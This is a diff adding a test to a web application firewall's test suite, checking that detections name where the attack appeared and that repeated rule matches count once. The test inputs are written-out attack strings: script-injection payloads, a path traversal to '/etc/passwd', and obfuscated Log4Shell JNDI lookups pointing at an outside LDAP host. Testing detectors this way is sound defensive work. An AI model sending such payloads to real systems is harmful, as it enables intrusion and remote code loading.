@@ -242,6 +242,21 @@ describe('waf: template, expression and JNDI injection', () => {
     }
   });
 
+  it('names where it found the attack: the query parameter, the parameter name, the path, the body field', async () => {
+    // a plain pair (no escape, "+" or bracket) and an encoded one are read by different paths of the query reader
+    assert.equal((await verdict({ path: '/s', query: 'page=2&q=<script>alert(1)</script>' }))?.event?.data?.target, 'query:q');
+    assert.equal((await verdict({ path: '/s', query: 'page=2&q=%3Cscript%3Ealert(1)%3C/script%3E' }))?.event?.data?.target, 'query:q');
+    assert.equal((await verdict({ path: '/s', query: '<script>alert(1)</script>=1' }))?.event?.data?.target, 'query:<script>alert(1)</script>');
+    assert.equal((await verdict({ path: '/s', query: 'page=2&<script>alert(1)</script>' }))?.event?.data?.target, 'query:<script>alert(1)</script>');
+    assert.equal((await verdict({ path: '/a/%3Cscript%3Ealert(1)%3C%2Fscript%3E' }))?.event?.data?.target, 'path');
+    const body = await verdict({ method: 'POST', path: '/a', headers: { 'content-type': 'application/json' }, body: '{"user":{"bio":"<script>alert(1)</script>"}}' });
+    assert.equal(body?.event?.data?.target, 'body:user.bio');
+    // the same rule matched in two places counts once: 5, under a threshold of 6
+    const once = compilePolicy(waf, { threshold: 6 });
+    assert.equal(await verdict({ path: '/s', query: 'a=<script>alert(1)</script>&b=<script>alert(2)</script>' }, once), undefined);
+    assert.equal((await verdict({ path: '/s', query: 'a=<script>alert(1)</script>&b=../../etc/passwd' }, once))?.event?.data?.score, 10);
+  });
+
   it('finds log4shell in any header, obfuscated', async () => {
     for (const payload of ['${jndi:ldap://203.0.113.9/a}', '${${lower:j}ndi:ldap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}']) {
       const result = await verdict({ path: '/', headers: { 'x-api-version': payload } });
